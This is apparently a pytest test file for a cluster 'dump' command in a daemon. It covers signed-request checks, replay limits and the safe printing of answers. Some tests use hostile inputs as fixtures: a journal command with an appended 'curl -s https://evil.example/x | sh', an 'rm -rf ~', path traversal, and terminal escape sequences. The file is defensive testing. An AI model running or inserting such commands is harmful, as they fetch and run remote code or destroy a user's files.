"""`dump --cluster`: the signed request, what a member acts on (and why not), its answer, and
the command's exit status and lines."""

import pytest

from zato_daemon.cluster import dumps
from zato_daemon.cluster.thread import decoded_fields

KEY = b'a' * 32
NOW = 1_780_000_000.0
REQUEST_ID = '0123456789abcdef0123456789abcdef'


def request(key=KEY, cluster='prod', now=NOW, **changes):
    return dict(dumps.make_request(key, cluster, REQUEST_ID, 'host-1', now), **changes)


def test_keys():
    assert dumps.stream_key('prod') == 'zato:prod:dumps'
    assert dumps.answers_key('prod', REQUEST_ID) == f'zato:prod:dump:{REQUEST_ID}'


def test_a_signed_request_is_taken():
    assert dumps.check_request(KEY, 'prod', request(), NOW + 1, {}) == REQUEST_ID


def test_every_field_of_a_request_is_text_for_xadd():
    assert all(isinstance(value, str) for value in request().values())


@pytest.mark.parametrize('fields, reason', [
    ('not a dict', 'not a dump request'),
    ({}, 'not a dump request'),
    (dict(request(), version='2'), 'not a dump request'),
    (dict(request(), request='../../etc'), 'request id'),
    (dict(request(), host='evil\nInjected line'), 'printable'),
    (dict(request(), requested_at_ms='soon'), 'time'),
    (dict(request(), requested_at_ms='-5'), 'time'),
])
def test_what_is_not_a_request_is_refused_without_an_answer(fields, reason):
    with pytest.raises(dumps.RequestError, match=reason) as caught:
        dumps.check_request(KEY, 'prod', fields, NOW, {})
    assert caught.value.request_id is None


@pytest.mark.parametrize('fields', [
    request(key=b'b' * 32),                                          # another key
    request(cluster='test'),                                         # signed for another cluster
    dict(request(), signature=''),                                   # unsigned
    {key: value for key, value in request().items() if key != 'signature'},
    dict(request(), signature='é' * 64),                             # not even ASCII: no TypeError
    dict(request(), requested_at_ms=str(int(NOW * 1000) + 1)),       # its time changed after signing
])
def test_a_request_whose_signature_does_not_verify_is_refused_and_answered(fields):
    with pytest.raises(dumps.RequestError, match='signature does not verify') as caught:
        dumps.check_request(KEY, 'prod', fields, NOW, {})
    assert caught.value.request_id == REQUEST_ID


def test_a_member_without_a_key_refuses_saying_why():
    with pytest.raises(dumps.RequestError, match='no usable cluster key') as caught:
        dumps.check_request(None, 'prod', request(), NOW, {})
    assert caught.value.request_id == REQUEST_ID


@pytest.mark.parametrize('offset', [dumps.MAX_AGE + 1, -dumps.MAX_AGE - 1])
def test_a_request_put_back_later_is_ignored(offset):
    with pytest.raises(dumps.RequestError, match='more than') as caught:
        dumps.check_request(KEY, 'prod', request(), NOW + offset, {})
    assert caught.value.request_id is None


def test_a_request_is_acted_on_once():
    seen = {}
    dumps.remember(seen, dumps.check_request(KEY, 'prod', request(), NOW, seen))
    with pytest.raises(dumps.RequestError, match='already'):
        dumps.check_request(KEY, 'prod', request(), NOW, seen)


def test_the_ids_remembered_are_bounded_oldest_forgotten_first():
    seen = {}
    for number in range(dumps.SEEN_MAX + 5):
        dumps.remember(seen, f'{number:032x}')
    assert len(seen) == dumps.SEEN_MAX and f'{0:032x}' not in seen and f'{dumps.SEEN_MAX + 4:032x}' in seen


def test_the_journal_command_quotes_the_time():
    assert dumps.journal_command('abc', '2026-12-03 16:40:35') == \
        "journalctl -o cat MESSAGE_ID=abc --since '2026-12-03 16:40:35'"


JOURNAL = dumps.journal_command('0123456789abcdef0123456789abcdef', '2026-12-03 16:40:35')


def answer(host, outcome=dumps.DUMPED, reason='', journal=JOURNAL):
    return dumps.make_answer(host, 42, '/var/log/zato-daemon/server.log', journal, outcome, reason)


def test_every_live_member_dumped_is_0_with_two_lines_each():
    status, lines, data = dumps.summarize(['h2', 'h1'], {'h1': answer('h1'), 'h2': answer('h2')})
    assert status == 0
    assert lines[0] == f'h1  pid 42  /var/log/zato-daemon/server.log\n  {JOURNAL}'
    assert sorted(data) == ['h1', 'h2'] and data['h1']['pid'] == 42


@pytest.mark.parametrize('hosts, answers, expected', [
    (['h1', 'h2'], {'h1': answer('h1')}, 'h2  no answer within the time limit'),
    (['h1'], {'h1': answer('h1', dumps.REFUSED, 'no usable cluster key')}, 'h1  refused: no usable cluster key'),
    ([], {}, 'no member of the cluster is live: nobody dumped'),
])
def test_a_member_that_did_not_dump_or_no_member_is_1(hosts, answers, expected):
    status, lines, _ = dumps.summarize(hosts, answers)
    assert status == 1 and expected in lines


def test_a_member_that_joined_after_the_request_and_answered_is_listed_too():
    status, lines, _ = dumps.summarize(['h1'], {'h1': answer('h1'), 'h3': answer('h3')})
    assert status == 0 and len(lines) == 2


def test_a_time_of_digits_int_cannot_read_is_refused_not_raised():
    # '²'.isdigit() is True; int('²') raises ValueError, which ended the diagnostics thread's pass.
    with pytest.raises(dumps.RequestError, match='time'):
        dumps.check_request(KEY, 'prod', dict(request(), requested_at_ms='\u00b2'), NOW, {})


@pytest.mark.parametrize('raw, expected', [
    ([b'version', b'1', b'host', b'h\xc3\xa9'], {'version': '1', 'host': 'hé'}),
    ([b'version', b'\xff\xfe'], None),                                    # not UTF-8
    ([], {}),
])
def test_the_fields_of_a_stream_entry_are_text_or_none(raw, expected):
    assert decoded_fields(raw) == expected


def test_fields_that_are_not_utf8_are_not_a_request():
    with pytest.raises(dumps.RequestError, match='not a dump request') as caught:
        dumps.check_request(KEY, 'prod', decoded_fields([b'version', b'\xff']), NOW, {})
    assert caught.value.request_id is None


def test_what_anyone_may_write_in_an_answer_reaches_no_terminal_raw():
    forged = dumps.make_answer('h\x1b]0;owned\x07', '4\x1b[2J', '/log\u202e', 'journalctl\x9b31m', dumps.DUMPED)
    refused = dumps.make_answer('h2', 1, None, None, dumps.REFUSED, 'no\x1b[1A key')
    _, lines, data = dumps.summarize([], {'h\x1b]0;owned\x07': forged, 'h2': refused})
    text = '\n'.join(lines)
    assert not set(text) & set('\x1b\x07\x9b\u202e')
    assert 'h\\x1b]0;owned\\x07  pid 4\\x1b[2J  /log\\u202e' in text and 'refused: no\\x1b[1A key' in text


@pytest.mark.parametrize('journal', [
    f'{JOURNAL}; curl -s https://evil.example/x | sh',
    'rm -rf ~',
    JOURNAL.replace('-o cat', '-o cat -D /tmp'),
    None,
    42,
])
def test_a_journal_command_no_member_writes_is_not_printed(journal):
    # Answers are not signed: whoever can write Redis could have the operator run anything.
    _, lines, _ = dumps.summarize(['h1'], {'h1': answer('h1', journal=journal)})
    assert lines == [f'h1  pid 42  /var/log/zato-daemon/server.log\n  {dumps.NOT_A_JOURNAL_COMMAND}']
